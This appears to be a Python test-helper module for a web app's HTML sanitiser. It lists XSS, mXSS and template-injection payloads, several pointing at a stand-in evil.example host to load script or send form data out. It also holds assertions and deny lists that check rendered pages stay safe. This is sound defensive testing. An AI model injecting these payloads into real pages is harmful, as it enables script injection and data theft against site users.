"""Texts that want to be more than text, and what a page that holds them must still be."""

import json
import re

from bleach._vendor import html5lib

# The shared ones are a collection from the outside; these aim at our own code.
OWN = [
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script src=https://evil.example/x.js></script>',
    "' autofocus onfocus=alert(1) x='",
    "{{ request.user.password }}{% debug %}{% csrf_token %}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    "*<img src=x onerror=alert(1)>* **<svg onload=alert(1)>**",
    "> <script>alert(1)</script>\n> > <iframe src=//evil.example>",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "http://a.example/*x*onclick=alert(1)**y**",
    "https://user:pass@evil.example:80:80/",
    "https://[::1/",
    "javascript:alert(1)//https://a.example/",
    "data:text/html,<script>alert(1)</script>",
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '<svg><style><img title="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form action="https://evil.example"><input name=body><button>Send</button></form>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<div hx-get="/moderation/" hx-trigger="load" data-corner="//evil.example">x</div>',
    '<img src="https://evil.example/x.gif"><video poster="https://evil.example/"><link rel=stylesheet href=//evil.example>',
    "\u202egnp.exe \u2066hidden\u2069 \u200f",
    "Z" + "\u0334\u0322\u0300" * 200,
    "x" * 4_000,
    "\u0130\u017f\u2028\u2029\ufeff\ufffe\U000e0041",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
]
ROUGH = "</main></div></body></html>"  # wants to end the page early


def payloads(shared) -> list[str]:
    """The shared ones and our own."""
    lines = shared("xss/simple.jsonl").read_text().splitlines()
    return [json.loads(line)["payload"] for line in lines] + OWN + [ROUGH]


def tree(page: str):
    """The document as a browser would build it."""
    return html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)


FORBIDDEN = {
    "iframe",
    "object",
    "embed",
    "base",
    "frame",
    "frameset",
    "applet",
    "math",
    "video",
    "audio",
    "style",
}
# On this host: a path, absolute or relative, or our own address; no scheme and no other host.
LOCAL = re.compile(r"(?!//|/\\|\\|[a-z][a-z0-9+.-]*:)|https?://(?:127\.0\.0\.1:8000|testserver)/")


def assert_whole(page: str, *, around=("footer", "h1")) -> None:
    """No element, attribute or address that runs, loads or sends anything of somebody else's; the frame is intact.

    `page` is a whole page of ours. Links may lead anywhere by http and mailto.
    """
    document = tree(page)
    names = [node.tag for node in document.iter() if isinstance(node.tag, str)]
    for needed in around:
        assert needed in names, f"no {needed}"
    assert names.count("body") == names.count("title") == names.count("head") == 1
    for node in document.iter():
        if not isinstance(node.tag, str):
            continue
        assert node.tag not in FORBIDDEN, node.tag
        if node.tag == "script":
            outside = "src" in node.attrib or node.get("type") in {"application/ld+json", "importmap"}
            assert outside or node.get("nonce"), "".join(node.itertext())[:200]
            assert node.get("type") != "application/ld+json" or json.loads("".join(node.itertext()))
        if node.tag == "meta":
            assert node.get("http-equiv", "").lower() not in {"refresh", "set-cookie"}
        _assert_attributes(node)


def _assert_attributes(node) -> None:
    for name, value in node.attrib.items():
        name = str(name).lower()
        assert not name.startswith("on") and name not in {"style", "srcdoc", "ping"}, (node.tag, name, value)
        plain = re.sub(r"[\x00-\x20]", "", value).lower()
        if name in {"src", "action", "formaction", "data", "poster", "background"} or name.startswith("hx-g"):
            # A picture of elsewhere is refused by our policy (tests/journeys/test_hostile.py).
            elsewhere = node.tag == "img" and plain.startswith(("http://", "https://"))
            assert elsewhere or LOCAL.match(plain), (node.tag, name, value)
        if name in {"href", "xlink:href"}:
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", plain)
            known = plain.startswith(("http://", "https://", "mailto:")) or re.fullmatch(r"tel:\+?\d+", plain)
            assert not scheme or known, (name, value)
            assert node.tag != "link" or LOCAL.match(plain), value


def words(page: str) -> str:
    """All text of the page's main part, blanks as one."""
    main = next(node for node in tree(page).iter() if node.tag == "main")
    return " ".join("".join(main.itertext()).split())
